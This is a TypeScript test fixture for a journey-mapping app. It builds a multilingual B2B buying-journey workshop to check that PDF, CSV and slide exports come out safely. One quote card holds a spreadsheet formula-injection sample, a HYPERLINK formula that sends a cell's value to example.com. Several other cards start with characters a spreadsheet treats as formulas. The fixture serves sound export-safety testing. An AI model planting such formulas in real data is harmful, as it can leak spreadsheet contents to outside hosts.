import { join } from 'node:path';
import { createApiService, type ApiService } from '../../electron/services/api-service.ts';
import { WorkshopFile } from '../../electron/services/workshop-file.ts';
import type { OpenedWorkshop } from '../../shared/api/contract.ts';
import { newWorkshopRecords } from '../../shared/model/new-workshop.ts';
import { recordsFromTemplate, templateSchema, type Template } from '../../shared/model/templates.ts';
import { RECORD_TYPES } from '../../shared/model/ids.ts';
import type { AnyRecord, Card } from '../../shared/model/records.ts';
import { createFutureState } from '../../renderer/src/editor/detail-actions.ts';
import { tempFolder } from './workshop-fixtures.ts';

/**
 * The workshop issue #15 was found with: a B2B buying journey of 7 stages, 21 steps and
 * 83 cards as an international room writes them — mostly English, with German, French,
 * Japanese, Arabic, Hebrew and emoji cards, a few that a spreadsheet would read as a
 * formula, long cards and short ones, two personas with emotions, tollgates, costed pain
 * points, moments of truth, and a future-state copy of the journey. Exports are checked
 * against it (every script in the PDF, safe CSVs, a deck that fits), so it is built the
 * way the app builds one: a template through `recordsFromTemplate`, written with
 * `WorkshopFile`, and the future state made by the editor's own action.
 */

type StepSpec = Template['stages'][number]['steps'][number];
type CardSpec = NonNullable<StepSpec['cards']>[string][number];

const step = (name: string, emotions: [number, number], cards: Record<string, CardSpec[]>, momentOfTruth = false): StepSpec => ({ name, emotions, cards, momentOfTruth });

export const REALISTIC_TEMPLATE: Template = templateSchema.parse({
  journeyName: 'Procurement platform — buying journey (as is)',
  lanes: [
    { name: 'Actions', laneType: 'actions' },
    { name: 'Thoughts & questions', laneType: 'thoughts' },
    { name: 'Emotions', laneType: 'emotions' },
    { name: 'Touchpoints', laneType: 'touchpoints' },
    { name: 'Tollgates', laneType: 'tollgates' },
    { name: 'Content', laneType: 'content' },
    { name: 'Pain points', laneType: 'pain-points' },
    { name: 'Opportunities', laneType: 'opportunities' },
    { name: 'Quotes', laneType: 'quotes' },
  ],
  personas: [
    { name: 'Dana Okafor, Head of Operations', role: 'Economic buyer', participation: 'driver', goals: 'Close the audit finding before Q3', baggage: 'Browbeating boss' },
    { name: 'Yuki Tanaka (田中 由紀), IT security', role: 'Security lead', participation: 'gatekeeper', goals: 'No new risk on the network', baggage: 'Newcomer with a big decision' },
  ],
  stages: [
    {
      name: 'Trigger',
      owner: 'Marketing — Lena Vogt',
      steps: [
        step('Audit finds a gap', [-2, 0], {
          actions: ['Reads the external audit report', 'Prüft den Auditbericht mit dem Controlling'],
          thoughts: ['Can we fix this before the Q3 audit?'],
          'pain-points': [{ text: 'Audit finding escalated to the board', painPoint: { severity: 4, affectedPerPeriod: 3, costPerOccurrence: 12000, period: 'year' } }],
        }),
        step('Boss asks for a plan', [-3, 0], {
          quotes: ['“I need a plan on my desk by Friday.”', 'מה התוכנית שלנו לרבעון הבא?'],
          thoughts: ['Wer ist eigentlich für die Lieferantenfreigabe zuständig?'],
          'pain-points': ['No owner for supplier onboarding'],
        }),
        step('Team agrees to look', [-1, 1], {
          actions: ['Forms a working group of four', 'Réunit les achats, la DSI et le juridique'],
          opportunities: ['Send a one-page audit checklist 📋', 'Webinar « Réussir son audit fournisseurs »'],
          content: ['Audit-readiness whitepaper'],
        }),
      ],
    },
    {
      name: 'Research',
      owner: 'Marketing — Lena Vogt',
      steps: [
        step('Searches for options', [0, 0], {
          actions: ['Asks peers, searches the web'],
          touchpoints: ['Review sites (G2, Capterra)', 'Peer network'],
          content: ['Comparison guide', 'Analyst report (Gartner-style quadrant)'],
          thoughts: ['比較表はありますか？'],
        }),
        step('Reads reviews', [1, 0], {
          touchpoints: ['Reads reviews on G2'],
          quotes: ['“Setup was painless 👍 but support is slow”', '«Le support répond en anglais seulement»'],
          'pain-points': ['Reviews mention slow support in Europe'],
        }),
        step('Shortlists vendors', [1, -1], {
          thoughts: ['Who has done this in our industry?', 'هل يدعم النظام اللغة العربية؟'],
          actions: ['Builds a shortlist of three vendors', 'Lädt drei Anbieter zur Präsentation ein'],
          opportunities: ['Publish case studies per industry 🏭'],
        }),
      ],
    },
    {
      name: 'Evaluate',
      owner: 'Sales — Karim Haddad',
      steps: [
        step('Demo and trial', [2, 0], {
          touchpoints: ['Sales demo', 'Trial account'],
          tollgates: [{ text: 'Security questionnaire answered', tollgate: { status: 'friction', buyerProcess: 'IT security sends a 180-question sheet', content: 'Security whitepaper', channel: 'Email', source: 'Vendor' } }],
          quotes: ['「デモはわかりやすかった」'],
        }, true),
        step('Security review', [-1, -2], {
          tollgates: [{ text: 'Sicherheitsprüfung durch die IT abgeschlossen', tollgate: { status: 'blocks', buyerProcess: 'Pen test and data-processing agreement' } }],
          'pain-points': [{ text: 'Security review takes three months', painPoint: { severity: 5, affectedPerPeriod: 40, costPerOccurrence: 2600, period: 'year' } }],
          thoughts: ['Où sont hébergées nos données ? En France ?'],
          actions: ['-30 % asked off the list price to offset the delay'],
        }),
        step('Business case', [0, 0], {
          content: ['ROI calculator', 'Business-case template (Excel)'],
          actions: ['+2 seats requested for the auditors'],
          opportunities: ['Pre-filled security answers in the trust centre 🔒'],
        }),
      ],
    },
    {
      name: 'Purchase',
      owner: 'Sales — Karim Haddad',
      steps: [
        step('Negotiates the contract', [-1, 0], {
          tollgates: [{ text: 'Budget signed off', tollgate: { status: 'passes', buyerProcess: 'CFO approval above €50,000' } }],
          quotes: ['„Der Vertrag hat 43 Seiten – das liest niemand.“'],
          'pain-points': ['Legal redlines go back and forth for weeks'],
        }),
        step('Procurement onboarding', [-2, 0], {
          actions: ['@Procurement: vendor must be set up in SAP first'],
          'pain-points': [{ text: 'Vendor set-up form asks for the same data twice', painPoint: { severity: 3, affectedPerPeriod: 120, costPerOccurrence: 85, period: 'year' } }],
          thoughts: ['למה צריך למלא את הטופס פעמיים?'],
        }),
        step('Signs the order', [2, 1], {
          actions: ['Signs the order form electronically ✍️'],
          touchpoints: ['DocuSign envelope', 'Account executive on the phone'],
          content: ['Bon de commande et conditions générales'],
        }, true),
      ],
    },
    {
      name: 'Implement',
      owner: 'Professional services — Sofia Marques',
      steps: [
        step('Kick-off', [1, 1], {
          actions: ['Kick-off call with the project team'],
          touchpoints: ['Welcome email with the project plan'],
          quotes: ['"Finally someone who knows our ERP"'],
        }),
        step('Data migration', [-2, -1], {
          'pain-points': [{ text: 'Supplier master data import fails on umlauts (Müller, Größe)', painPoint: { severity: 4, affectedPerPeriod: 25, costPerOccurrence: 900, period: 'year' } }],
          thoughts: ['データ移行はいつ終わりますか？'],
          actions: ['Exports 12,000 suppliers to CSV'],
          opportunities: ['Validate the file before upload ✅'],
        }),
        step('Single sign-on', [0, -2], {
          tollgates: [{ text: 'SSO tested with Azure AD', tollgate: { status: 'friction', buyerProcess: 'Change request in the CAB' } }],
          thoughts: ['שאלה: האם יש תמיכה ב-SAML 2.0?'],
          touchpoints: ['Admin console', 'منصة الإدارة باللغة الإنجليزية فقط'],
        }),
      ],
    },
    {
      name: 'Use',
      owner: 'Customer success — Amira Saleh',
      steps: [
        step('First purchase orders', [2, 1], {
          actions: ['Raises the first 50 purchase orders', '最初の発注は５０件でした'],
          quotes: ['“Approvals went from 5 days to 1 🎉”', 'الموافقات أسرع بكثير الآن'],
        }),
        step('First invoice', [-1, 0], {
          'pain-points': [{ text: 'First invoice shows the wrong VAT rate', momentOfTruth: true, painPoint: { severity: 4, affectedPerPeriod: 60, costPerOccurrence: 150, period: 'year' } }],
          touchpoints: ['Invoice PDF by email'],
          thoughts: ['Pourquoi la TVA est-elle à 20 % et pas à 5,5 % ?'],
        }, true),
        step('Calls support', [-2, -1], {
          actions: ['Calls support for the third time this month'],
          'pain-points': ['Hotline only in English before 10:00 CET'],
          opportunities: ['Support auf Deutsch und Französisch ab 8 Uhr'],
          quotes: ['=HYPERLINK("http://example.com/?"&A1,"click") — pasted into a ticket'],
        }),
      ],
    },
    {
      name: 'Renew or retire',
      owner: 'Customer success — Amira Saleh',
      steps: [
        step('Usage review', [1, 1], {
          content: ['Quarterly business review deck'],
          thoughts: ['Are we using what we pay for?'],
          touchpoints: ['QBR meeting', 'Customer success manager 🤝 Amira'],
        }),
        step('Renewal quote', [-1, 0], {
          'pain-points': ['Renewal quote arrives 10 days before the deadline'],
          tollgates: [{ text: 'Renewal approved by the CFO', tollgate: { status: 'friction' } }],
          quotes: ['«On a reçu le devis trop tard.»'],
        }),
        step('Renews or leaves', [2, 2], {
          actions: ['Renews for three years 🚀', 'يجدد العقد لمدة ثلاث سنوات'],
          opportunities: ['Offer multi-year pricing 90 days ahead'],
          thoughts: ['日本の子会社にも展開したい'],
        }),
      ],
    },
  ],
});

/**
 * The records of the realistic workshop: the workshop record, the as-is journey from
 * the template, and its future-state copy. Records come in the file's table order.
 */
export function realisticWorkshopRecords(): AnyRecord[] {
  const workshop = newWorkshopRecords('Procurement platform — Kundenreise 2027', new Date('2026-11-23T09:00:00Z')).find((r) => r.type === 'workshop')!;
  const current = [{ ...workshop, facilitator: 'Zoë Ångström', sample: 'DACH & MENA mid-market' } as AnyRecord, ...recordsFromTemplate(REALISTIC_TEMPLATE)];
  const journey = current.find((r) => r.type === 'journey')!;
  const map = Object.fromEntries(current.map((r) => [r.id, r]));
  const future = createFutureState(map, journey.id)!;
  const all = [...current, ...Object.values(future.change.added)];
  // One future-state card is rewritten, as a room does, so the two journeys differ.
  const futureCard = Object.values(future.change.added).find((r): r is Card => r.type === 'card' && r.text === 'Security review takes three months');
  if (futureCard) futureCard.text = 'Security review in two weeks with pre-filled answers';
  return RECORD_TYPES.flatMap((type) => all.filter((r) => r.type === type));
}

/** The realistic workshop written to a file and opened through the API service, as the app does. */
export async function createRealisticWorkshop(): Promise<{ api: ApiService; folder: string; path: string; records: AnyRecord[] }> {
  const folder = tempFolder('journeyboard-realistic-');
  const path = join(folder, 'Realistic.journey');
  WorkshopFile.createFromRecords(path, realisticWorkshopRecords(), { replaceExisting: false }).close();
  const api = createApiService({ dataFolder: join(folder, 'data'), defaultWorkshopFolder: folder, appVersion: 'test' });
  const opened = (await api.call('workshop-open', { path })) as { ok: boolean; value: OpenedWorkshop; error?: unknown };
  if (!opened.ok) throw new Error(`the realistic workshop did not open: ${JSON.stringify(opened)}`);
  return { api, folder, path, records: opened.value.records };
}
